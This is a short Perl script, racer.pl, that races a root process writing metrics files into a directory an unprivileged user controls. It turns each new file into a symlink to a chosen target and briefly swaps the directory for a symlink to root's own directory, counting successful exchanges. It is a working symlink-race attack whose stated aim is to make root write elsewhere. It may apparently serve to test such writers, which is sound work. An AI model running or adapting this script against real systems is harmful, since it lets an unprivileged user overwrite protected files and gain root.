# SPDX-License-Identifier: GPL-2.0-only
# racer.pl PARENT SECRET ROOTS COUNT: whoever owns the directory that root writes metrics into, and would like root to write elsewhere.
# Each new file in PARENT/prom becomes a link to SECRET, as does the name it is to get; PARENT/prom becomes a link to ROOTS, root's own
# directory, and is put back. Until it is ended; for each new file that was exchanged COUNT grows by a byte.
use strict;
use warnings;

my ($parent, $secret, $roots, $count) = @ARGV;
my $dir = "$parent/prom";
my ($stop, $round) = (0, 0);

open(my $out, '>>', $count) or die "$count: $!";

$SIG{TERM} = sub { $stop = 1 };
until ($stop) {
	opendir(my $all, $dir) or next;
	for my $name (grep { !/^\.\.?$/ } readdir $all) {
		next if -l "$dir/$name";
		syswrite($out, '.') if $name =~ /^\./ && unlink("$dir/$name");
		unlink("$dir/$name");
		symlink($secret, "$dir/$name");
	}
	closedir $all;
	# Mostly the directory is there, so that there are files to exchange.
	next if $round++ % 500;
	if (rename($dir, "$dir.away")) {
		symlink($roots, $dir);
		select(undef, undef, undef, 0.001);
		unlink($dir);
		rename("$dir.away", $dir);
	}
}
